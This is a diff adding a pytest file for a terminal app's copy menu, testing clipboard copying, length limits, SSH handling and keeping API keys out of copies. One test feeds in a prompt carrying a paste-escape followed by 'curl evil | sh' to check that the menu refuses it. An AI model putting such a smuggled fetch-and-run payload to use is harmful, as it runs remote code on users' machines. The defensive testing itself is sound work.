@@ -1,0 +1,162 @@
+"""The copy menu, by keys and by mouse."""
+
+from __future__ import annotations
+
+import base64
+import os
+import re
+from pathlib import Path
+
+import pytest
+
+from eternal_tui.jobs.job import FileState, Job, JobState
+from eternal_tui.tui.copy_menu import CopyMenu
+from eternal_tui.untrusted import Untrusted
+from tests.tui.jobs import a_job
+from tests.tui.screens.stage import ENVIRON, Stage, around, bench_of, settle, text_of
+
+PROMPT = "The person waves\nand smiles"
+
+
+def finished(prompt: str = PROMPT) -> Job:
+    return a_job(
+        12,
+        prompt=prompt,
+        state=JobState.SUCCEEDED,
+        file="12.jpg",
+        file_state=FileState.SAVED,
+        result_url=Untrusted("https://cdn.example/r?sig=1"),
+        request_id="req-1",
+    )
+
+
+def sent_to_clipboard(written: list[str]) -> list[str]:
+    found = re.findall("\x1b]52;c;([A-Za-z0-9+/=]*)\x07", "".join(written))
+    return [base64.b64decode(each).decode() for each in found]
+
+
+@pytest.mark.parametrize(
+    ("keys", "text", "told"),
+    [
+        ("t", PROMPT, "Copied the prompt, 27 characters."),
+        ("i", "req-1", "Copied the request id, 5 characters."),
+        ("l", "https://cdn.example/r?sig=1", "Copied the link, 27 characters."),
+        ("jj enter", PROMPT, "Copied the prompt, 27 characters."),
+        ("jjjk enter", PROMPT, "Copied the prompt, 27 characters."),
+        ("down down down enter", "req-1", "Copied the request id, 5 characters."),
+    ],
+)
+async def test_a_letter_or_the_cursor_copies(tmp_path: Path, keys: str, text: str, told: str) -> None:
+    written: list[str] = []
+    async with bench_of(tmp_path) as bench:
+        app = Stage(CopyMenu(finished(), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            pressed = [key for word in keys.split() for key in ([word] if word in ("enter", "down") else word)]
+            await pilot.press(*pressed)
+            await settle(pilot)
+    assert app.left_with == [told]
+    assert sent_to_clipboard(written) == [text]
+
+
+async def test_a_click_copies(tmp_path: Path) -> None:
+    written: list[str] = []
+    async with bench_of(tmp_path) as bench:
+        app = Stage(CopyMenu(finished(), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.click("#copies", offset=(6, 3))
+            await settle(pilot)
+    assert app.left_with == ["Copied the request id, 5 characters."]
+
+
+async def test_what_the_job_lacks_is_neither_listed_nor_copied(tmp_path: Path) -> None:
+    written: list[str] = []
+    async with bench_of(tmp_path) as bench:
+        app = Stage(CopyMenu(a_job(3), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await settle(pilot)
+            assert "link" not in text_of(app)
+            await pilot.press("l")
+            assert "This job has no link." in text_of(app)
+            await pilot.press("escape")
+    assert app.left_with == [None]
+    assert written == []
+
+
+async def test_a_prompt_that_would_run_in_a_shell_is_refused_in_place(tmp_path: Path) -> None:
+    """Seen to fail with the refusal not asked for: the clipboard got the ESC."""
+    written: list[str] = []
+    async with bench_of(tmp_path) as bench:
+        app = Stage(CopyMenu(finished("nice\x1b[201~; curl evil | sh\r"), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("t")
+            await settle(pilot)
+            assert "U+001B" in text_of(app)
+            assert app.left_with == []
+            await pilot.press("b")
+            await settle(pilot)
+    assert len(sent_to_clipboard(written)) == 1
+    assert "\x1b" not in sent_to_clipboard(written)[0]
+
+
+async def test_more_than_a_terminal_takes_is_said(tmp_path: Path) -> None:
+    written: list[str] = []
+    async with bench_of(tmp_path) as bench:
+        app = Stage(CopyMenu(finished("é" * 40_000), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("t")
+            await settle(pilot)
+    assert app.left_with[0].startswith("Too long for the terminal's clipboard: the prompt is 80,000 bytes")
+    assert written == []
+
+
+@pytest.mark.parametrize("remote", [False, True])
+async def test_the_machines_own_clipboard_is_used_only_where_the_person_sits_at_it(
+    tmp_path: Path, remote: bool
+) -> None:
+    """Seen to fail with the line's other end not looked at: over SSH the text went to a stranger's desktop."""
+    kept = tmp_path / "kept"
+    program = tmp_path / "xclip"
+    program.write_text(f"#!/bin/sh\n/bin/cat > {kept}\n")
+    program.chmod(0o700)
+    environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
+    text = "é" * 40_000
+    async with bench_of(tmp_path, environ) as bench:
+        app = Stage(CopyMenu(finished(text), bench, around([], environ, remote=remote)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("t")
+            await settle(pilot)
+    assert kept.exists() is not remote
+    if remote:
+        assert app.left_with[0].startswith("Too long")
+    else:
+        assert app.left_with == ["Copied the prompt, 40,000 characters."]
+        assert kept.read_text(encoding="utf-8") == text
+
+
+async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
+    written: list[str] = []
+    async with bench_of(tmp_path, keys={"copy.prompt": "x"}) as bench:
+        app = Stage(CopyMenu(finished(), bench, around(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            app.set_keymap({"copy.prompt": "x"})
+            await settle(pilot)
+            assert re.search(r"x +prompt", text_of(app))
+            await pilot.press("t")
+            assert app.left_with == []
+            await pilot.press("x")
+            await settle(pilot)
+    assert app.left_with == ["Copied the prompt, 27 characters."]
+
+
+async def test_the_keys_of_the_environment_are_in_nothing_that_is_copied(tmp_path: Path) -> None:
+    environ = {**ENVIRON, "ETERNALAI_API_KEY": "sk_secret_of_somebody"}
+    for key in "pltichb":
+        written: list[str] = []
+        async with bench_of(tmp_path / key, environ) as bench:
+            app = Stage(CopyMenu(finished(), bench, around(written, environ)))
+            async with app.run_test(size=(80, 24)) as pilot:
+                await pilot.press(key)
+                await settle(pilot)
+        assert "sk_secret" not in "".join(sent_to_clipboard(written)), key
+        assert written, key
+    assert "ETERNALAI_API_KEY" not in os.environ
